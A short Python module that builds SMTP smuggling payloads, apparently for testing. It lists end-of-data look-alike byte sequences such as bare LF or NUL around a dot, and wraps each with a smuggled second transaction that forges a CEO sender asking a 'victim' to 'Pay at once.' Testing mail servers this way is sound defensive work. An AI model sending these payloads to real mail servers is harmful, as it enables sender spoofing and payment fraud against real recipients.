"""What stands around a dot and only looks like the end of data, to some server or other: the ways to smuggle.

Those published for SMTP smuggling, and their neighbours; RFC 5321 4.1.1.4 knows one end alone, CRLF.CRLF.
"""

from __future__ import annotations

END = b"\r\n.\r\n"
_BEFORE = (b"\n", b"\r", b"\r\n", b"\r\r", b"\n\n", b"\n\r", b"\r\n\0", b"\r\0\n")
_DOTS = (b".", b"..")
_AFTER = (b"\n", b"\r", b"\r\n", b"\r\r\n", b"\n\r", b"\0\r\n", b"\r\0\n", b" \r\n", b"\t\r\n")

LOOK_ALIKES = tuple(
    before + dots + after for dots in _DOTS for before in _BEFORE for after in _AFTER if before + dots + after != END
)
"""All of them but the end itself, none with that in it; some (b"\\r\\n..\\r\\n") are quite in order."""

SMUGGLED = (
    b"MAIL FROM:<ceo@gold.example>\r\nRCPT TO:<victim@gold.example>\r\nDATA\r\n"
    b"From: ceo@gold.example\r\nSubject: smuggled\r\n\r\nPay at once.\r\n"
)


def letter(look_alike: bytes) -> bytes:
    """A message, as a client sends it, with another one smuggled behind the look-alike; without its end."""
    return b"Subject: outer\r\n\r\nhello" + look_alike + SMUGGLED


def has_bare(look_alike: bytes) -> bool:
    """Whether there is a CR or LF in it that isn't half of a CRLF."""
    rest = look_alike.replace(b"\r\n", b"")
    return b"\r" in rest or b"\n" in rest


def name(look_alike: bytes) -> str:
    """For people: LF.CRLF."""
    return "".join({13: "CR", 10: "LF", 0: "NUL", 32: "SP", 9: "TAB", 46: "."}[octet] for octet in look_alike)
